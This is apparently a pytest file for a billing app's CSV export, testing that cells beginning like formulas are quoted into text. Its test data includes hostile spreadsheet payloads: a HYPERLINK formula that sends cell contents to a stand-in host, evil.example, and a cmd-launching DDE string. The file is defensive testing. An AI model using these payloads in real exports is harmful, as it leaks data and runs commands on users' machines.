"""The reconciliation CSV's cells (X2): nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from billbridge.domain.csv_export import safe_cell, write_csv


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_given_a_cell_starting_like_a_formula_when_written_then_a_quote_makes_it_text(hostile):
    (_, row) = list(csv.reader(io.StringIO(write_csv(["client_name"], [[hostile]]))))

    assert row == [f"'{hostile}"]


@pytest.mark.parametrize("number", ["-12.50", "0.00", "1130.25", "-7"])
def test_given_a_plain_number_when_written_then_it_stays_a_number(number):
    assert safe_cell(number) == number


def test_given_ordinary_text_with_commas_and_quotes_then_it_round_trips_unchanged():
    text = 'Smith, Jones & "Partners" LLP'

    (header, row) = list(csv.reader(io.StringIO(write_csv(["a", "b"], [[text, None]]))))

    assert header == ["a", "b"] and row == [text, ""]
